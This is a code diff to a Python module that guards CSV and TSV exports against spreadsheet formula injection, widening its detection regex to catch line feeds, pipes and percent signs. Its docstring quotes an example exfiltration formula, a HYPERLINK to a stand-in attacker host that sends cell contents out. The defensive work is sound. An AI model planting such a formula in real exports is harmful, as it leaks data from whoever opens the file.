@@ -1,7 +1,8 @@
 """Cells of CSV (and TSV) files made safe to open in a spreadsheet: no formula injection.
 
-A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
-as a formula, so a title such as ``=HYPERLINK("http://evil.example/?"&A1)`` taken from an input
+A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or
+a line feed as a formula (and some read ``|`` and ``%`` as commands), so a title such as
+``=HYPERLINK("http://evil.example/?"&A1)`` taken from an input
 would run when an export is opened. As OWASP advises, such a cell is written with a single quote
 (``'``) in front: the spreadsheet shows it as text. A cell that is a plain number (``-3``,
 ``+1.5e3``) is left alone: negative numbers stay numbers.
@@ -17,7 +18,7 @@ from collections.abc import Iterable
 from typing import Any
 
 #: A cell a spreadsheet would read as a formula (the pattern is valid in Python and in DuckDB).
-FORMULA = r"^[=+\-@\t\r]"
+FORMULA = r"^[=+\-@\t\r\n|%]"
 #: A plain number, which stays as it is although it may start with ``-`` or ``+``.
 NUMBER = r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$"
 #: What goes in front of a neutralised cell.
